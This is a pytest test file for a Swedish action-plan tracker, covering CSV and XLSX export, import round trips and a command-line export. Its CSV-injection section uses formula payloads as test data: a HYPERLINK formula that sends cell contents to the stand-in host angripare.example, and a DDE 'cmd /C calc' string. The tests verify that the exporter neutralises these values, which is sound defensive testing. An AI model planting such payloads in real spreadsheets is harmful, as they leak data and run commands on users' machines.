from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlmodel import Session, col, select
from typer.testing import CliRunner

from tests.support.schema import create_schema
from tracker.app import App
from tracker.cli import cli
from tracker.db import make_engine
from tracker.errors import TrackerError
from tracker.models import Action, Person
from tracker.services import actions, exporting, importing, people, plans
from workflows import default_registry

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "pitea-2018.csv"


@pytest.fixture
def fresh(app: App, tmp_path: Path) -> Iterator[App]:
    """A second, empty database (SQLite) to import an export into."""
    engine = make_engine(f"sqlite:///{tmp_path / 'fresh.db'}")
    create_schema(engine)
    yield App(settings=app.settings, engine=engine, registry=default_registry())
    engine.dispose()


def import_example(app: App, now: datetime) -> int:
    with app.transaction() as s:
        return importing.import_file(s, app.registry, app.settings, EXAMPLE, now=now).plan_id


def work_on_the_plan(app: App, now: datetime, chef: Person, plan_id: int) -> None:
    """Move states and fill the optional fields, so the export has something to carry."""
    later = now + timedelta(days=30)
    with app.transaction() as s:
        rows = [a for _, area_rows in plans.plan_areas(s, plan_id) for a, _ in area_rows]
        first, fifth = rows[0], rows[4]
        assert first.id is not None and fifth.id is not None
        actions.move(s, app.registry, first.id, "slutfor", chef, now=later, text="Klart nu.")
        actions.move(s, app.registry, fifth.id, "starta", chef, now=later)
        actions.edit(
            s,
            first.id,
            now=later,
            budget_sek=150000,
            target_group="Rektorer; skolledare",
            expected_effect='Tydligare "ekonomistyrning"',
            follow_up="Enkät till rektorerna",
            next_report_on=date(2018, 12, 15),
        )
        area = plans.ensure_area(s, plans.get_plan(s, plan_id), "Protokollsbeslut")
        plans.add_action(
            s,
            app.registry,
            area,
            now=later,
            text="Förvaltningschefen stämmer av frågan och återkommer med besked",
            workflow="protokoll",
            due_on=date(2018, 3, 1),
        )


def export(app: App, plan_id: int, out: Path) -> list[Path]:
    with app.transaction() as s:
        return exporting.export_plan(s, app.registry, plan_id, out)[1]


def xlsx_content(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return {ws.title: list(ws.iter_rows(values_only=True)) for ws in wb.worksheets}
    finally:
        wb.close()


def test_csv_export_then_import_into_a_fresh_database_exports_the_same(
    app: App, fresh: App, now: datetime, chef: Person, tmp_path: Path
) -> None:
    plan_id = import_example(app, now)
    work_on_the_plan(app, now, chef, plan_id)
    first = tmp_path / "a" / "plan.csv"
    first.parent.mkdir()
    assert export(app, plan_id, first) == [first, first.with_name("plan.plan.toml")]

    with fresh.transaction() as s:
        result = importing.import_file(s, fresh.registry, fresh.settings, first, now=now)
    assert [str(w) for w in result.warnings] == ["Rad 13, kolumn E-post: ingen ansvarig angiven"]
    second = tmp_path / "b" / "plan.csv"
    second.parent.mkdir()
    export(fresh, result.plan_id, second)

    assert second.read_bytes() == first.read_bytes()
    assert (
        second.with_name("plan.plan.toml").read_text()
        == first.with_name("plan.plan.toml").read_text()
    )
    with Session(fresh.engine) as s:
        states = [a.state for a in s.exec(select(Action).order_by(col(Action.id)))]
    assert states[0] == "klar" and states[5] == "pagar" and states[-1] == "tilldelad"


def test_xlsx_export_then_import_into_a_fresh_database_exports_the_same(
    app: App, fresh: App, now: datetime, chef: Person, tmp_path: Path
) -> None:
    plan_id = import_example(app, now)
    work_on_the_plan(app, now, chef, plan_id)
    first = tmp_path / "first.xlsx"
    export(app, plan_id, first)

    with fresh.transaction() as s:
        result = importing.import_file(s, fresh.registry, fresh.settings, first, now=now)
    second = tmp_path / "second.xlsx"
    export(fresh, result.plan_id, second)

    assert xlsx_content(second) == xlsx_content(first)


def test_export_holds_current_states_dates_and_plan_data(
    app: App, now: datetime, chef: Person, tmp_path: Path
) -> None:
    plan_id = import_example(app, now)
    work_on_the_plan(app, now, chef, plan_id)
    out = tmp_path / "plan.xlsx"
    export(app, plan_id, out)

    content = xlsx_content(out)
    assert list(content) == ["Åtgärder", "Plan"]
    header, *rows = content["Åtgärder"]
    assert header == (
        "Sektion", "Utvecklingsområde", "Åtgärd", "Ansvarig", "E-post", "Tidsplan", "Klart till",
        "Utvärderas", "Status", "Processläge", "Förväntad effekt", "Uppföljning", "Målgrupp",
        "Budget (kr)", "Nästa återrapport", "Arbetsflöde",
    )  # fmt: skip
    assert len(rows) == 12
    first = dict(zip(header, rows[0], strict=True))
    assert first["Status"] == "Klar"
    assert first["Processläge"] == "Klart nu."
    assert first["Tidsplan"] == "Klart till mars 2018. Utvärderas oktober 2018."
    assert (first["Klart till"], first["Utvärderas"]) == (
        datetime(2018, 3, 31),
        datetime(2018, 10, 31),
    )
    assert (first["Budget (kr)"], first["Ansvarig"]) == (150000, "Karin Lindström")
    last = dict(zip(header, rows[-1], strict=True))
    assert (last["Status"], last["Arbetsflöde"], last["E-post"]) == (
        "Tilldelad",
        "protokoll",
        None,
    )
    meta = dict(content["Plan"][1:])
    assert meta["Titel"] == "Åtgärdsplan för att stärka grundskolans ledningsfunktion"
    assert meta["Undertecknare"] == "Malin Westling"
    assert meta["Återrapportmånader"] == "6,12"
    assert meta["Nästa återrapport"] == datetime(2018, 6, 30)
    assert str(meta["Bakgrund"]).startswith("KPMG fick")


def test_cli_exports_csv_with_sidecar_and_xlsx(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    runner = CliRunner()
    assert runner.invoke(cli, ["--database", db, "init"]).exit_code == 0
    assert runner.invoke(cli, ["--database", db, "plan", "import", str(EXAMPLE)]).exit_code == 0

    result = runner.invoke(
        cli, ["--database", db, "plan", "export", "1", "--out", str(tmp_path / "ut.csv")]
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == (
        f"Skrev {tmp_path / 'ut.csv'} och {tmp_path / 'ut.plan.toml'}: "
        "9 utvecklingsområden, 11 åtgärder."
    )
    data = (tmp_path / "ut.csv").read_bytes()
    assert data.startswith("\ufeffSektion;Utvecklingsområde;Åtgärd;".encode())
    assert 'ort = "Piteå"' in (tmp_path / "ut.plan.toml").read_text(encoding="utf-8")

    result = runner.invoke(
        cli, ["--database", db, "plan", "export", "1", "--out", str(tmp_path / "ut.xlsx")]
    )
    assert result.exit_code == 0, result.stderr
    assert len(xlsx_content(tmp_path / "ut.xlsx")["Åtgärder"]) == 12

    result = runner.invoke(
        cli, ["--database", db, "plan", "export", "7", "--out", str(tmp_path / "x.csv")]
    )
    assert (result.exit_code, result.stderr.strip()) == (1, "Fel: Ingen åtgärdsplan med nummer 7.")
    assert not (tmp_path / "x.csv").exists()


def test_xlsx_of_a_plan_without_report_date_imports_back(
    app: App, fresh: App, now: datetime, tmp_path: Path
) -> None:
    with app.transaction() as s:
        plan = plans.create_plan(s, now=now, title="Plan utan återrapportdatum")
        area = plans.ensure_area(s, plan, "Område")
        plans.add_action(s, app.registry, area, now=now, text="Åtgärd")
        plan_id = plan.id
    assert plan_id is not None
    first = tmp_path / "plan.xlsx"
    export(app, plan_id, first)
    with fresh.transaction() as s:
        result = importing.import_file(s, fresh.registry, fresh.settings, first, now=now)
        assert plans.get_plan(s, result.plan_id).next_report_on is None


# --- texts a spreadsheet would take for formulas ---------------------------------------------

# What makes Excel, LibreOffice or Google Sheets run a cell (OWASP "CSV injection").
FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r="]
PLAN_TITLE = '=HYPERLINK("http://angripare.example/?"&A1;"Klicka")'


def formula_plan(app: App, now: datetime) -> int:
    """A plan whose every kind of text starts like a formula, one åtgärd per start."""
    with app.transaction() as s:
        plan = plans.create_plan(s, now=now, title=PLAN_TITLE, background="@bakgrund")
        for i, start in enumerate(FORMULA_STARTS):
            plain = start.strip()  # titles, texts and names are stored stripped
            area = plans.ensure_area(s, plan, f"{plain}Område {i}")
            owner = people.ensure_person(
                s, f"agare{i}@pitea.example", now=now, name=f"{plain}Ansvarig {i}"
            )
            plans.add_action(
                s,
                app.registry,
                area,
                now=now,
                text=f"{plain}SUMMA(A{i})",
                owner=owner,
                tidsplan=f"{start}Klart till mars 2018",
                due_on=date(2018, 3, 31),
                progress_note=f"{plain}cmd|' /C calc'!A0",
                expected_effect=f"{start}effekt",
                follow_up=f"{start}uppföljning",
                target_group=f"{start}grupp",
            )
        assert plan.id is not None
        return plan.id


def table_texts(app: App, plan_id: int) -> list[str]:
    """Every text of the plan's åtgärder the export writes, as stored."""
    texts = []
    with Session(app.engine) as s:
        for area, rows in plans.plan_areas(s, plan_id):
            for action, owner in rows:
                assert owner is not None
                texts += [area.title, action.text, owner.name, action.tidsplan]
                texts += [action.progress_note, action.expected_effect]
                texts += [action.follow_up, action.target_group]
    return texts


def csv_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def line_breaks(value: Any) -> Any:
    """A carriage return as the line break every import reads it as."""
    return value.replace("\r", "\n") if isinstance(value, str) else value


def test_xlsx_export_writes_formula_like_texts_as_strings_never_as_formulas(
    app: App, now: datetime, tmp_path: Path
) -> None:
    plan_id = formula_plan(app, now)
    out = tmp_path / "plan.xlsx"
    export(app, plan_id, out)

    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert len(sheets) == 2
    assert not [xml for xml in sheets if re.search(r"<f[ >]", xml)]
    content = xlsx_content(out)
    cells = {v for row in content["Åtgärder"] for v in row}
    texts = table_texts(app, plan_id)
    assert len(texts) == 8 * len(FORMULA_STARTS)
    assert {line_breaks(t) for t in texts} <= cells
    meta = dict(content["Plan"][1:])
    assert (meta["Titel"], meta["Bakgrund"]) == (PLAN_TITLE, "@bakgrund")


def test_a_text_longer_than_an_excel_cell_is_refused_for_xlsx_and_kept_whole_in_csv(
    app: App, now: datetime, tmp_path: Path
) -> None:
    long_note = "Lång redogörelse. " * 2_000  # 36 000 characters; a cell holds 32 767
    with app.transaction() as s:
        plan = plans.create_plan(s, now=now, title="Lång plan")
        area = plans.ensure_area(s, plan, "Område")
        plans.add_action(
            s, app.registry, area, now=now, text="Skriv", progress_note=long_note.strip()
        )
        plan_id = plan.id
    assert plan_id is not None

    with pytest.raises(TrackerError) as info:
        export(app, plan_id, tmp_path / "plan.xlsx")
    assert info.value.message == (
        "Rad 2, kolumn Processläge: texten har 35 999 tecken, fler än en cell i Excel rymmer "
        "(32 767). Exportera planen som CSV i stället."
    )
    export(app, plan_id, tmp_path / "plan.csv")
    [_, row] = csv_rows(tmp_path / "plan.csv")
    assert long_note.strip() in row


def test_csv_export_puts_a_quote_before_every_formula_like_text(
    app: App, now: datetime, tmp_path: Path
) -> None:
    plan_id = formula_plan(app, now)
    out = tmp_path / "plan.csv"
    export(app, plan_id, out)

    fields = {f for row in csv_rows(out) for f in row if f}
    assert not [f for f in fields if f[0] in "=+-@\t\r"]
    assert {"'" + t for t in table_texts(app, plan_id)} <= fields


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_like_texts_survive_export_import_export_exactly(
    app: App, fresh: App, now: datetime, tmp_path: Path, kind: str
) -> None:
    """From a plan made in one database, exported, imported into an empty one (SQLite and
    PostgreSQL) and exported again: the same texts, without a quote or a formula added."""
    plan_id = formula_plan(fresh, now)
    first = tmp_path / "a" / f"plan.{kind}"
    first.parent.mkdir()
    export(fresh, plan_id, first)

    with app.transaction() as s:
        result = importing.import_file(s, app.registry, app.settings, first, now=now)
    second = tmp_path / "b" / f"plan.{kind}"
    second.parent.mkdir()
    export(app, result.plan_id, second)

    expected = [line_breaks(t) for t in table_texts(fresh, plan_id)]
    assert table_texts(app, result.plan_id) == expected
    with Session(app.engine) as s:
        assert plans.get_plan(s, result.plan_id).title == PLAN_TITLE
    if kind == "csv":
        assert csv_rows(second) == [[line_breaks(f) for f in row] for row in csv_rows(first)]
    else:
        assert xlsx_content(second) == {
            name: [tuple(line_breaks(v) for v in row) for row in rows]
            for name, rows in xlsx_content(first).items()
        }


def test_control_characters_pasted_into_a_text_do_not_stop_the_xlsx_export(
    app: App, now: datetime, tmp_path: Path
) -> None:
    """XML cannot carry them: left out of the workbook, kept in the database and the CSV."""
    with app.transaction() as s:
        plan = plans.create_plan(s, now=now, title="Plan\x0b med styrtecken")
        area = plans.ensure_area(s, plan, "Område")
        plans.add_action(
            s, app.registry, area, now=now, text="Rutin\x0cer", progress_note="Klart\x1b[0m."
        )
        plan_id = plan.id
    assert plan_id is not None
    out = tmp_path / "plan.xlsx"
    export(app, plan_id, out)

    content = xlsx_content(out)
    header, row = content["Åtgärder"]
    got = dict(zip(header, row, strict=True))
    assert (got["Åtgärd"], got["Processläge"]) == ("Rutiner", "Klart[0m.")
    assert dict(content["Plan"][1:])["Titel"] == "Plan med styrtecken"
    export(app, plan_id, tmp_path / "plan.csv")
    assert "Rutin\x0cer" in csv_rows(tmp_path / "plan.csv")[1]
